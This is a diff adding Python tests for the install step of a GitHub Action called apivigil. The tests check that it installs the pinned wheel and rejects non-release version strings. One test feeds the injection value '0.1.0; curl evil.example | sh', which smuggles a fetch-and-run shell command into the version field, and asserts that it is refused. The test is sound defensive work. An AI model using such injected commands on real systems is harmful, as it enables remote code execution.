@@ -59,3 +59,52 @@ def test_scan_step_records_the_exit_code_and_writes_reports(serve, authority, tm
     assert summary.read_text().startswith("## apivigil: grade")
     outputs, _ = run_scan_step(server.url + "/", "high", extra, tmp_path)
     assert "exit-code=0" in outputs
+
+
+def run_install_step(version: str, tmp_path: Path) -> subprocess.CompletedProcess[str]:
+    """The install step as GitHub runs it, with pip pointed at a local wheel directory (the
+    only index here): what it installs lands in `tmp_path / "target"`."""
+    step = next(s for s in action()["runs"]["steps"] if s.get("name") == "Install apivigil")
+    env = {
+        **os.environ,
+        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+        "VERSION": version, "GITHUB_ACTION_PATH": str(ACTION.parent),
+        "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(tmp_path / "wheels"),
+        "PIP_TARGET": str(tmp_path / "target"), "PIP_NO_DEPS": "1",
+        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
+    }
+    return subprocess.run(["bash", "-e", "-c", step["run"]], env=env, cwd=tmp_path,
+                          capture_output=True, text=True, timeout=120)
+
+
+def release_wheel(directory: Path, version: str) -> None:
+    """A minimal, valid wheel of `apivigil==version` (metadata only), as PyPI would serve."""
+    import zipfile
+
+    directory.mkdir(exist_ok=True)
+    info = f"apivigil-{version}.dist-info"
+    files = {
+        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: apivigil\nVersion: {version}\n",
+        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
+                         "Tag: py3-none-any\n",
+    }
+    record = "".join(f"{name},,\n" for name in files) + f"{info}/RECORD,,\n"
+    with zipfile.ZipFile(directory / f"apivigil-{version}-py3-none-any.whl", "w") as wheel:
+        for name, text in {**files, f"{info}/RECORD": record}.items():
+            wheel.writestr(name, text)
+
+
+def test_install_step_installs_the_pinned_release(tmp_path):
+    release_wheel(tmp_path / "wheels", "0.1.0")
+    release_wheel(tmp_path / "wheels", "9.9.9")
+    done = run_install_step("0.1.0", tmp_path)
+    assert done.returncode == 0, done.stderr
+    assert [p.name for p in (tmp_path / "target").glob("apivigil-*.dist-info")] == [
+        "apivigil-0.1.0.dist-info"]  # the pinned one, not the newest, not the checkout
+
+
+def test_install_step_refuses_a_version_that_is_not_a_release_number(tmp_path):
+    done = run_install_step("0.1.0; curl evil.example | sh", tmp_path)
+    assert done.returncode == 2
+    assert "::error::version must be a release number such as 0.1.0" in done.stdout
+    assert not (tmp_path / "target").exists()
